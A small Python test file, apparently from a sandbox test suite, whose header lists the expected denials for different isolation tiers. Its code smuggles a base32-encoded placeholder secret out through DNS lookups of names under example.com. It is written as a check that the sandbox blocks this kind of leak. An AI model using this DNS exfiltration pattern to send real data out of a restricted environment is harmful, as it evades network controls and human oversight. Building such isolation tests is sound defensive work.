# SPDX-License-Identifier: GPL-3.0-or-later
# Sends a secret in looked-up names: the domain's name server reads them.
#
# baseline: skip the real network is never tried
# expect-status: ok
# expect-attempt: network look up onswg4tfoq.example.com denied|hidden
# expect-attempt-B: network|system-calls socket *INET* denied
# expect-attempt-A2: any
# within: 8
# tiers: A A2 B
import base64
import socket

secret = base64.b32encode(b"secret").decode().rstrip("=").lower()
for name in (f"{secret}.example.com", f"two.{secret}.example.com"):
    try:
        print(socket.gethostbyname(name))
        print("SUCCEEDED")
    except OSError as error:
        print(error)
print("STOPPED")
